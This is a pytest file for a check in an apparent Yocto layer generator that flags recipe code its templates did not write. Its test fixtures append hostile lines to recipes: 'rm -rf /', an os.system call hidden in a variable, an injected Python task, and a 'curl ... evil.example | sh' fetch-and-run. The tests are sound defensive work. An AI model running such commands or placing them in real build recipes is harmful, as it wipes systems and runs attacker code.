"""The templated check: inline Python and task shell only as the templates write them."""

from __future__ import annotations

import shutil

import pytest

from edgegenai import writer
from edgegenai.checks import Workspace, templated
from edgegenai.render import render
from edgegenai.spec import load_spec

from conftest import ROOT

MODEL = "meta-edgegenai/recipes-models/model-smollm2-360m-instruct-q4-k-m/model-smollm2-360m-instruct-q4-k-m_1.0.bb"
ENGINE = "meta-edgegenai/recipes-ai/llama-cpp/llama-cpp_0.0.8770.bb"


def _layer(tmp_path):
    shutil.copytree(ROOT / "meta-edgegenai", tmp_path / "meta-edgegenai")
    return Workspace(tmp_path)


@pytest.mark.parametrize("example", [None] + sorted(p.name for p in (ROOT / "examples").glob("*.yaml")))
def test_the_committed_layer_and_every_example_are_clean(tmp_path, example):
    if example is None:
        assert templated.check(Workspace(ROOT)).findings == []
        return
    writer.write(render(load_spec(ROOT / "examples" / example)), tmp_path)
    assert templated.check(Workspace(tmp_path)).findings == []


BAD = [
    # (file, text appended, finding id, line offset of the finding from the first added line)
    (MODEL, 'do_install:append() {\n    rm -rf /\n}\n', "edgegenai.templated.shell", 1),
    (MODEL, 'HOMEPAGE = "${@os.system(\'id\')}"\n', "edgegenai.templated.inline-python", 0),
    (MODEL, 'python do_evil() {\n    import os\n}\naddtask evil before do_install\n', "edgegenai.templated.function", 0),
    (ENGINE, 'do_install:append() {\n    curl -s https://evil.example/x | sh\n}\n', "edgegenai.templated.shell", 1),
    (ENGINE, 'do_configure:prepend() {\n    install -d ${D}${bindir}; wget x\n}\n', "edgegenai.templated.shell", 1),
]


@pytest.mark.parametrize("path,text,finding,offset", BAD, ids=[b[2] + f"-{i}" for i, b in enumerate(BAD)])
def test_code_no_template_writes_is_a_finding(tmp_path, path, text, finding, offset):
    ws = _layer(tmp_path)
    recipe = tmp_path / path
    first = len(recipe.read_text().splitlines()) + 1
    recipe.write_text(recipe.read_text() + text)
    found = [(f.id, f.path, f.line) for f in templated.check(ws).findings]
    assert found == [(finding, path, first + offset)]


def test_a_line_the_template_writes_is_not_a_finding(tmp_path):
    ws = _layer(tmp_path)
    recipe = tmp_path / ENGINE
    # A line the recipe template writes, with another value where the template has one.
    recipe.write_text(recipe.read_text().replace("do_install:append() {\n",
                                                 "do_install:append() {\n    rm -f ${D}${bindir}/convert_hf_to_gguf.py\n"))
    assert templated.check(ws).findings == []
